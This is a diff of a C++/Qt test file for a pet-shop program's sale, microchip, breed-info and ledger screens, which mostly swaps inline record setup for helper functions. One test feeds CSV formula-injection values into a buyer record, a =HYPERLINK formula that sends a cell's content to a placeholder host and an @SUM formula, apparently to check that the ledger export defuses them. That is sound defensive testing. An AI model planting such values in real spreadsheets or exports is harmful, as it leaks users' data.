@@ -7,6 +7,7 @@
 #include "support/DialogDriver.h"
 #include "support/PdfText.h"
 #include "support/ProgramFixture.h"
+#include "support/SampleCharts.h"
 
 #include <QAction>
 #include <QCheckBox>
@@ -27,27 +28,18 @@ namespace {
 
 QByteArray shibaRecord()
 {
-    PetRecord record{};
-    record.BirthYear = 2024;
-    record.BirthMonth = 4;
-    record.BirthDay = 15;
-    setText(record.Kind, QStringLiteral("柴犬"));
-    setText(record.Sex, QStringLiteral("メス"));
-    setText(record.CoatColour, QStringLiteral("赤"));
+    PetRecord record = SampleChart{.kind = QStringLiteral("柴犬"),
+                                   .born = QDate(2024, 4, 15),
+                                   .sex = QStringLiteral("メス"),
+                                   .colour = QStringLiteral("赤"),
+                                   .sold = QStringLiteral("2024/8/20")}
+                           .record();
     setText(record.Birthplace, QStringLiteral("関東地方"));
     setText(record.Medication1, QStringLiteral("2024年6月1日   混合ワクチン   済み"));
-    setText(record.SaleDate, QStringLiteral("2024/8/20"));
-    return QByteArray(reinterpret_cast<const char*>(&record), RecordLength);
+    return bytesOf(record);
 }
 
 const QString Chip = QStringLiteral("392141000123456");
-
-ChartSale withChip(const QString& microchip)
-{
-    ChartSale sale;
-    sale.microchip = microchip;
-    return sale;
-}
 
 void type(QDialog* dialog, const char* box, const QString& text)
 {
@@ -130,7 +122,7 @@ void TestSaleScreens::saleInfoSavesLoadsAndCancels()
 
 void TestSaleScreens::microchipRefusedOrConfirmed()
 {
-    f->program->database().sales().saveChartSale(2, withChip(Chip));
+    f->program->database().sales().saveChartSale(2, chipSale(Chip));
     bool stayedOpen = false;
     whenDialogShows([&](QDialog* dialog) {
         type(dialog, "microchip", QStringLiteral("39214100012345")); // 14 digits
@@ -324,9 +316,7 @@ void TestSaleScreens::explanationSheetNamesTheAnimalOnEveryPage()
     if (!canReadPdfText())
         QSKIP("pdftotext (poppler-utils) is not installed");
     SaleStore& store = f->program->database().sales();
-    ChartSale sale;
-    sale.microchip = Chip;
-    sale.buyerName = QStringLiteral("山田 花子");
+    ChartSale sale = chipSale(Chip, QStringLiteral("山田 花子"));
     sale.explainedOn = QDate(2026, 11, 2);
     store.saveChartSale(1, sale);
     BreedTexts shiba;
@@ -355,17 +345,13 @@ void TestSaleScreens::explanationSheetNamesTheAnimalOnEveryPage()
 
 void TestSaleScreens::ledgerReadsBack()
 {
-    ChartSale sale;
-    sale.microchip = Chip;
-    sale.buyerName = QStringLiteral("山田 花子");
+    ChartSale sale = chipSale(Chip, QStringLiteral("山田 花子"));
     sale.buyerAddress = QStringLiteral("東京都千代田区1-2-3, 空ハイツ101");
     f->program->database().sales().saveChartSale(1, sale);
     // What a buyer's fields could hold to make a spreadsheet open a link or run a formula.
-    ChartSale crafted;
-    crafted.buyerName = QStringLiteral("=HYPERLINK(\"http://x\"&B2,\"詳細\")");
-    crafted.buyerAddress = QStringLiteral("@SUM(A1)");
-    crafted.buyerPhone = QStringLiteral("+81-90-1234-5678");
-    f->program->database().sales().saveChartSale(2, crafted);
+    f->program->database().sales().saveChartSale(
+        2, buyerSale(QStringLiteral("=HYPERLINK(\"http://x\"&B2,\"詳細\")"), QStringLiteral("@SUM(A1)"),
+                     QStringLiteral("+81-90-1234-5678")));
     const QString path = f->path("ledger.csv");
     f->files.setNextAnswer(path);
     action("actSaleLedger")->trigger();
@@ -388,8 +374,8 @@ void TestSaleScreens::deletedChartTakesItsSaleInformation()
     for (const char* list :
          {"syurui.txt", "iro.txt", "tokucyou.txt", "kusuri.txt", "taicyou.txt", "shoku.txt"})
         writeFileBytes(QString::fromLatin1(list), QByteArray());
-    f->program->database().sales().saveChartSale(1, withChip(Chip));
-    f->program->database().sales().saveChartSale(2, withChip(QStringLiteral("392141000654321")));
+    f->program->database().sales().saveChartSale(1, chipSale(Chip));
+    f->program->database().sales().saveChartSale(2, chipSale(QStringLiteral("392141000654321")));
     QTest::mouseClick(f->control<QPushButton>("Form2", "Command1"), Qt::LeftButton);
     QTest::mouseClick(f->control<QPushButton>("Form3", "Command2"), Qt::LeftButton);
     QTRY_VERIFY(!f->window("Form3"));
@@ -444,8 +430,10 @@ void TestSaleScreens::breedAndDealerInfo()
         pressOk(dialog);
     });
     action("actBreedInfo")->trigger();
-    QCOMPARE(f->program->database().sales().breedTexts(QStringLiteral("柴犬")).item(4), QStringLiteral("室内ケージ"));
-    QCOMPARE(f->program->database().sales().breedTexts(QStringLiteral("チワワ")).item(5), QStringLiteral("1日2回"));
+    QCOMPARE(f->program->database().sales().breedTexts(QStringLiteral("柴犬")).item(4),
+             QStringLiteral("室内ケージ"));
+    QCOMPARE(f->program->database().sales().breedTexts(QStringLiteral("チワワ")).item(5),
+             QStringLiteral("1日2回"));
 
     // A species' default texts: typed for 猫, kept while 犬 is shown, saved by OK.
     whenDialogShows([](QDialog* dialog) {
@@ -488,10 +476,9 @@ void TestSaleScreens::saleInformationOfAnotherAnimalIsToldAndClearedOnRequest()
     action("actSaleInfo")->trigger();
     QCOMPARE(f->program->database().sales().chartSale(1).animal->kind, QStringLiteral("柴犬"));
 
-    PetRecord poodle{};
-    setText(poodle.Kind, QStringLiteral("トイ・プードル"));
-    setText(poodle.SaleDate, QStringLiteral("2026/12/1"));
-    writeFileBytes("detapetto.dt", QByteArray(reinterpret_cast<const char*>(&poodle), RecordLength));
+    writeFileBytes(
+        "detapetto.dt",
+        SampleChart{.kind = QStringLiteral("トイ・プードル"), .sold = QStringLiteral("2026/12/1")}.bytes());
     QTest::mouseClick(f->control<QPushButton>("Form2", "Command6"), Qt::LeftButton);
     QTest::mouseClick(f->control<QPushButton>("Form2", "Command5"), Qt::LeftButton);
     QCOMPARE(f->control<QLabel>("Form2", "Label2")->text().trimmed(), QStringLiteral("トイ・プードル"));
